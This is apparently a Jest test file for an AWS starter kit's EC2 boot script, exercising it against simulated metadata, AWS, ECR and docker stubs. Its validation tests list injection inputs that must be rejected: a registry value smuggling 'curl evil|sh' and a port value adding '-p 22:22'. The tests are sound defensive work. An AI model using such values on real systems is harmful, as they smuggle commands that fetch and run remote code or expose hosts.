// The starter kit's boot script (examples/user-data/boot.sh) run with bash as user data runs it: the user
// data of the CloudFormation template's launch template (its settings lines from the stack's parameters,
// then the script) or of the Terraform example's, IMDSv2 from a fake loopback metadata endpoint, the real
// AWS CLI against the simulated AWS on a loopback server (and a fake ECR token endpoint), and a stub docker
// that records what would run. What a user sees: which image starts from which registry on which port,
// the ECR login with the instance role's rights, and on every failure a non-zero exit, a clear
// "boot: FAILED" line and no container started.
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, jest } from '@jest/globals'
import { parse } from 'yaml'
import { startSimServer, type SimServer } from '../../packages/aws-sim/src/index.js'
import type { SimWorld } from '../../test-support/world.js'
import { BOOT_SCRIPT, findAwsCli, runBootScript, startFakeEcr, startFakeImds, unreachableUrl, userDataFile, type FakeImds } from '../../test-support/starter/boot.js'
import { loadTemplate, props, stackOf } from '../../test-support/starter/cfn.js'
import { allows, bootScriptActions, resourceMatches, statementFor, type PolicyDocument } from '../../test-support/starter/iam.js'
import { interpolate, loadTerraform, policyDocument } from '../../test-support/starter/terraform.js'
import { addService, newWorld } from '../../test-support/worlds.js'

// Each test runs the AWS CLI (a Python interpreter start) several times: allow for a busy machine.
jest.setTimeout(180_000)

const template = loadTemplate()
/** The user data a stack of the template gives its instances, as a file to run. */
const cfnUserData = (params: Record<string, string>): string =>
  userDataFile(String((props(stackOf(template, params), 'LaunchTemplate').LaunchTemplateData as Record<string, unknown>).UserData))
/** The instance role's policies in a stack of the template. */
const instancePolicies = (params: Record<string, string>): PolicyDocument[] =>
  (props(stackOf(template, params), 'InstanceRole').Policies as unknown as { PolicyDocument: PolicyDocument }[]).map((p) => p.PolicyDocument)
/** A registry that is not ECR (no login), for the tests about everything else. */
const REGISTRY = 'registry.example.com/team/'
const userData = cfnUserData({ ImageRegistry: REGISTRY })
/** The repository ARN an image reference of an ECR registry names (ECR user guide: arn:aws:ecr:<region>:<account>:repository/<name>). */
const ecrRepositoryArn = (image: string): string => {
  const m = image.match(/^(\d{12})\.dkr\.ecr\.([a-z0-9-]+)\.amazonaws\.com\/(.+?)(?::[^/:@]+|@sha256:[0-9a-f]{64})$/)
  if (!m) throw new Error(`${image} is not an ECR image reference`)
  return `arn:aws:ecr:${m[2]}:${m[1]}:repository/${m[3]}`
}

const cli = findAwsCli()
if (!cli && process.env.CI) {
  throw new Error('The boot script tests need the AWS CLI (Debian package awscli: apt-get install -y awscli); CI must install it.')
}
const withCli = cli ? describe : describe.skip
if (!cli) console.warn('AWS CLI not found: the boot script tests are skipped (apt-get install -y awscli)')

let world: SimWorld
let sim: SimServer
let imds: FakeImds
let instanceId: string

beforeAll(async () => {
  world = newWorld({ realism: { latencyMs: [10, 80], readLagMs: [0, 0] } })
  addService(world, { instances: 2 })
  sim = await startSimServer(world)
})
afterAll(async () => {
  await sim?.close()
})

beforeEach(async () => {
  // The group moved on to v2 after its instances were launched with v1: the instances' own tags (copied at
  // launch) say v1, the group says v2. The script must run what the group says.
  world.createOrUpdateTags([{ ResourceId: 'prod-web-blue', ResourceType: 'auto-scaling-group', Key: 'docker:image:version', Value: 'v2', PropagateAtLaunch: true }])
  instanceId = world.group('prod-web-blue').instances[0]?.id as string
  imds = await startFakeImds({ instanceId, region: 'us-east-1' })
})
afterEach(async () => {
  world.faults.clear()
  await imds.close()
})

function awsCallsSince(n: number): string[] {
  return world.calls.slice(n).map((c) => `${c.service}:${c.operation}`)
}

withCli(`boot script (${cli?.version ?? 'no AWS CLI'})`, () => {
  it('runs the version tagged on its own Auto Scaling group, read through IMDSv2 and the Auto Scaling API, from the stack\'s registry on its port', async () => {
    expect(world.instance(instanceId).version).toBe('v1')
    const before = world.calls.length
    const run = await runBootScript({ imds: imds.url, awsEndpoint: sim.url, script: cfnUserData({ ImageRegistry: REGISTRY, AppPort: '8081' }) })
    expect(run.stderr).not.toContain('FAILED')
    expect(run.code).toBe(0)
    expect(run.docker).toEqual([
      ['pull', 'registry.example.com/team/web:v2'],
      ['rm', '-f', 'app'],
      ['run', '-d', '--name', 'app', '--restart=always', '-p', '8081:8080', '--env', 'APP_VERSION=v2', '--env', 'PORT=8080', 'registry.example.com/team/web:v2']
    ])
    expect(run.stderr).toContain('boot: group prod-web-blue runs registry.example.com/team/web:v2')
    expect(run.stderr).toContain('(port 8081 -> 8080)')
    // IMDSv2: a token first (with its TTL header), then every metadata read presents it.
    expect(imds.requests[0]).toMatchObject({ method: 'PUT', path: '/latest/api/token', ttl: '300', status: 200 })
    const reads = imds.requests.slice(1)
    expect(reads.map((r) => r.path)).toEqual(['/latest/meta-data/instance-id', '/latest/meta-data/placement/region'])
    for (const r of reads) expect(r).toMatchObject({ method: 'GET', status: 200, token: expect.stringMatching(/^token-/) })
    // The group's tags from Auto Scaling, never the instance's tags from EC2.
    expect(awsCallsSince(before)).toEqual(['autoscaling:DescribeAutoScalingInstances', 'autoscaling:DescribeAutoScalingGroups'])
  })

  it('reads the tag keys the action uses by default, and any others set in its two variables', async () => {
    // action.yml's defaults are the ones the code applies (__tests__/unit/action-yml.test.ts).
    const action = parse(fs.readFileSync('action.yml', 'utf8')) as { inputs: Record<string, { default?: string }> }
    const script = fs.readFileSync(BOOT_SCRIPT, 'utf8')
    const actionDefault = (input: string): string | undefined => action.inputs[input]?.default
    const scriptValue = (name: string): string | undefined => script.match(new RegExp(`^${name}='([^']*)'$`, 'm'))?.[1]
    expect(scriptValue('IMAGE_NAME_TAG_KEY')).toBe(actionDefault('service-tag-key'))
    expect(scriptValue('VERSION_TAG_KEY')).toBe(actionDefault('version-tag-key'))
    expect(scriptValue('VERSION_TAG_KEY')).toBe('docker:image:version')

    // A user who set service-tag-key / version-tag-key edits the two variables.
    world.createOrUpdateTags([
      { ResourceId: 'prod-web-blue', ResourceType: 'auto-scaling-group', Key: 'app:image', Value: 'shop', PropagateAtLaunch: true },
      { ResourceId: 'prod-web-blue', ResourceType: 'auto-scaling-group', Key: 'app:release', Value: '2026.12.1', PropagateAtLaunch: true }
    ])
    const edited = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'bg-boot-edit-')), 'boot.sh')
    fs.writeFileSync(
      edited,
      script.replace(/^IMAGE_NAME_TAG_KEY='[^']*'$/m, "IMAGE_NAME_TAG_KEY='app:image'").replace(/^VERSION_TAG_KEY='[^']*'$/m, "VERSION_TAG_KEY='app:release'")
    )
    // The script on its own (no stack in front of it): its settings from the environment.
    const run = await runBootScript({ imds: imds.url, awsEndpoint: sim.url, script: edited, env: { REGISTRY: 'ghcr.io/owner/' } })
    expect(run.code).toBe(0)
    expect(run.docker[0]).toEqual(['pull', 'ghcr.io/owner/shop:2026.12.1'])
    expect(run.docker.at(-1)?.at(-1)).toBe('ghcr.io/owner/shop:2026.12.1')
    expect(run.docker.at(-1)).toEqual(expect.arrayContaining(['-p', '80:8080', 'APP_VERSION=2026.12.1']))
  })

  it('refuses an empty registry (it would pull Docker Hub\'s library/web) and starts nothing, before any AWS call', async () => {
    const before = world.calls.length
    const run = await runBootScript({ imds: imds.url, awsEndpoint: sim.url })
    expect(run.code).not.toBe(0)
    expect(run.stderr).toContain('boot: FAILED: REGISTRY is empty: set it to your registry')
    expect(run.docker).toEqual([])
    expect(awsCallsSince(before)).toEqual([])
    expect(imds.requests).toEqual([])
    // And the stacks cannot make one: the parameter is required and must name a registry.
    const p = template.Parameters.ImageRegistry as { Default?: string; AllowedPattern?: string }
    expect(p.Default).toBeUndefined()
    const allowed = (v: string): boolean => new RegExp(`^(?:${p.AllowedPattern as string})$`).test(v)
    for (const ok of ['123456789012.dkr.ecr.us-east-1.amazonaws.com/', '123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/', 'ghcr.io/owner/', 'docker.io/owner/', 'registry.example.com:5000/']) expect(allowed(ok)).toBe(true)
    for (const bad of ['', '/', 'web', 'docker.io', "x.io/'; curl evil|sh; '/", 'ghcr.io/Owner/']) expect(allowed(bad)).toBe(false)
  })

  it('refuses a port that is not one, and starts nothing', async () => {
    for (const port of ['0', '65536', '80 -p 22:22']) {
      const run = await runBootScript({ imds: imds.url, awsEndpoint: sim.url, env: { REGISTRY, APP_PORT: port } })
      expect(run.code).not.toBe(0)
      expect(run.stderr).toContain(`boot: FAILED: APP_PORT='${port}' is not a port (1-65535)`)
      expect(run.docker).toEqual([])
    }
  })

  it('logs in to an ECR registry with a token from the registry\'s region, and the stack\'s instance role allows exactly that login and the pull of the one repository', async () => {
    const registry = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/'
    const ecr = await startFakeEcr({ accountId: '123456789012', region: 'eu-west-1' })
    try {
      const run = await runBootScript({ imds: imds.url, awsEndpoint: sim.url, ecrEndpoint: ecr.url, script: cfnUserData({ ImageRegistry: registry }) })
      expect(run.stderr).not.toContain('FAILED')
      expect(run.code).toBe(0)
      // The instance is in us-east-1; the token comes from the registry's region.
      expect(ecr.requests).toEqual([{ target: 'AmazonEC2ContainerRegistry_V20150921.GetAuthorizationToken', region: 'eu-west-1' }])
      const image = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/web:v2'
      expect(run.docker.slice(0, 2)).toEqual([
        ['login', '--username', 'AWS', '--password-stdin', '123456789012.dkr.ecr.eu-west-1.amazonaws.com', `<stdin>${ecr.password}`],
        ['pull', image]
      ])
      expect(run.docker.at(-1)?.at(-1)).toBe(image)
      expect(run.stderr).toContain('boot: logged in to 123456789012.dkr.ecr.eu-west-1.amazonaws.com')

      // What the script did, the instance role of that stack allows; and no other repository.
      const docs = instancePolicies({ ImageRegistry: registry })
      const all: PolicyDocument = { Statement: docs.flatMap((d) => d.Statement) }
      const script = fs.readFileSync(BOOT_SCRIPT, 'utf8')
      expect([...new Set(all.Statement.flatMap((st) => st.Action))].sort()).toEqual(bootScriptActions(script, { ecr: true }))
      expect(allows(docs, 'ecr:GetAuthorizationToken', {})).toBe(true)
      expect(statementFor(all, 'ecr:GetAuthorizationToken')?.Resource).toBe('*')
      const pull = statementFor(all, 'ecr:BatchGetImage')
      expect(pull).toBe(statementFor(all, 'ecr:GetDownloadUrlForLayer'))
      const may = (arn: string): boolean => [pull?.Resource ?? []].flat().some((r) => resourceMatches(r, arn))
      expect(may(ecrRepositoryArn(image))).toBe(true)
      expect(may('arn:aws:ecr:eu-west-1:123456789012:repository/team/other')).toBe(false)
      expect(may('arn:aws:ecr:eu-west-1:123456789012:repository/web')).toBe(false)
      expect(may('arn:aws:ecr:us-east-1:123456789012:repository/team/web')).toBe(false)
      // The default-namespace registry: repository <ServiceName>.
      const plain = instancePolicies({ ImageRegistry: '123456789012.dkr.ecr.us-east-1.amazonaws.com/' }).flatMap((d) => d.Statement)
      expect(plain.find((st) => [st.Action].flat().includes('ecr:BatchGetImage'))?.Resource).toBe(ecrRepositoryArn('123456789012.dkr.ecr.us-east-1.amazonaws.com/web:v1'))
    } finally {
      await ecr.close()
    }
  })

  it('fails, naming the ECR registry, and pulls nothing when the login is refused', async () => {
    const ecr = await startFakeEcr({ accountId: '123456789012', region: 'us-east-1', refuse: true })
    try {
      const run = await runBootScript({ imds: imds.url, awsEndpoint: sim.url, ecrEndpoint: ecr.url, script: cfnUserData({ ImageRegistry: '123456789012.dkr.ecr.us-east-1.amazonaws.com/' }) })
      expect(run.code).not.toBe(0)
      expect(run.stderr).toContain('AccessDeniedException')
      expect(run.stderr).toContain('boot: FAILED: could not log in to the ECR registry 123456789012.dkr.ecr.us-east-1.amazonaws.com')
      expect(run.docker.map((c) => c[0])).not.toContain('pull')
      expect(run.docker.map((c) => c[0])).not.toContain('run')
    } finally {
      await ecr.close()
    }
  })

  it('does not log in to a registry that is not ECR, and that stack\'s instance role has no ECR rights', async () => {
    const run = await runBootScript({ imds: imds.url, awsEndpoint: sim.url, script: userData })
    expect(run.code).toBe(0)
    expect(run.docker.map((c) => c[0])).toEqual(['pull', 'rm', 'run'])
    const actions = instancePolicies({ ImageRegistry: REGISTRY }).flatMap((d) => d.Statement.flatMap((st) => [st.Action].flat()))
    expect(actions.filter((a) => a.startsWith('ecr:'))).toEqual([])
    expect(actions.sort()).toEqual(bootScriptActions(fs.readFileSync(BOOT_SCRIPT, 'utf8')))
  })

  it('the Terraform example\'s user data boots the same way: its registry and port variables reach docker pull and docker run', async () => {
    const tf = await loadTerraform()
    const lt = tf.resource.aws_launch_template?.app?.[0] as Record<string, unknown>
    // user_data = base64encode("${local.boot_settings}${file(<the boot script>)}")
    expect(lt.user_data).toBe('${base64encode("${local.boot_settings}${file("${path.module}/../user-data/boot.sh")}")}')
    const vars = { image_registry: '123456789012.dkr.ecr.eu-west-1.amazonaws.com/', app_port: '8082' }
    const settings = interpolate(tf, '${local.boot_settings}', { vars })
    // The same settings lines as the CloudFormation template's.
    const cfn = String((props(stackOf(template, { ImageRegistry: vars.image_registry, AppPort: vars.app_port }), 'LaunchTemplate').LaunchTemplateData as Record<string, unknown>).UserData)
    expect(cfn).toBe(`${String(settings)}${fs.readFileSync(BOOT_SCRIPT, 'utf8')}`)
    const ecr = await startFakeEcr({ accountId: '123456789012', region: 'eu-west-1' })
    try {
      const run = await runBootScript({ imds: imds.url, awsEndpoint: sim.url, ecrEndpoint: ecr.url, script: userDataFile(`${String(settings)}${fs.readFileSync(BOOT_SCRIPT, 'utf8')}`) })
      expect(run.code).toBe(0)
      expect(run.docker.map((c) => c[0])).toEqual(['login', 'pull', 'rm', 'run'])
      expect(run.docker[1]).toEqual(['pull', '123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:v2'])
      expect(run.docker.at(-1)).toEqual(expect.arrayContaining(['-p', '8082:8080']))
      // Its instance role: the pull of that repository, and the login.
      const pull = policyDocument(tf, 'instance_ecr', vars)
      expect(statementFor(pull, 'ecr:BatchGetImage')?.Resource).toEqual([ecrRepositoryArn('123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:v2')])
      expect(statementFor(pull, 'ecr:GetAuthorizationToken')?.Resource).toEqual(['*'])
    } finally {
      await ecr.close()
    }
  })

  it('fails, naming the metadata service, and starts nothing when IMDS is unreachable', async () => {
    const before = world.calls.length
    const run = await runBootScript({ imds: await unreachableUrl(), awsEndpoint: sim.url, script: userData })
    expect(run.code).not.toBe(0)
    expect(run.stderr).toMatch(/boot: FAILED: the instance metadata service \(IMDSv2\) at http:\/\/127\.0\.0\.1:\d+ did not give a token/)
    expect(run.docker).toEqual([])
    expect(awsCallsSince(before)).toEqual([])
  })

  it('fails, naming the group and the tag, and starts nothing when the group has no version tag', async () => {
    world.autoScaling.deleteTags([{ ResourceId: 'prod-web-blue', Key: 'docker:image:version' }])
    const run = await runBootScript({ imds: imds.url, awsEndpoint: sim.url, script: userData })
    expect(run.code).not.toBe(0)
    expect(run.stderr).toContain('boot: FAILED: group prod-web-blue has no docker:image:version tag: nothing to run')
    expect(run.docker).toEqual([])
  })

  it('fails and starts nothing when the version tag is not a Docker tag', async () => {
    world.createOrUpdateTags([{ ResourceId: 'prod-web-blue', ResourceType: 'auto-scaling-group', Key: 'docker:image:version', Value: 'v2 beta', PropagateAtLaunch: true }])
    const run = await runBootScript({ imds: imds.url, awsEndpoint: sim.url, script: userData })
    expect(run.code).not.toBe(0)
    expect(run.stderr).toContain("has docker:image:version='v2 beta', which is neither a Docker tag nor a sha256 digest")
    expect(run.docker).toEqual([])
  })

  it('fails, naming the image, and runs no container when the image pull fails', async () => {
    const run = await runBootScript({ imds: imds.url, awsEndpoint: sim.url, dockerFails: 'pull', script: userData })
    expect(run.code).not.toBe(0)
    expect(run.stderr).toContain('manifest unknown')
    expect(run.stderr).toContain('boot: FAILED: docker pull registry.example.com/team/web:v2 failed')
    expect(run.docker).toEqual([['pull', 'registry.example.com/team/web:v2']])
  })

  it('fails, naming the API call and the AWS error, and starts nothing when the Auto Scaling API refuses', async () => {
    world.faults.inject({
      operation: 'DescribeAutoScalingGroups',
      error: { code: 'AccessDenied', status: 403, message: 'User is not authorized to perform: autoscaling:DescribeAutoScalingGroups' },
      times: 10
    })
    const run = await runBootScript({ imds: imds.url, awsEndpoint: sim.url, script: userData })
    expect(run.code).not.toBe(0)
    expect(run.stderr).toContain('boot: FAILED: the Auto Scaling API refused describe-auto-scaling-groups for prod-web-blue')
    expect(run.stderr).toContain('AccessDenied')
    expect(run.docker).toEqual([])
  })
})
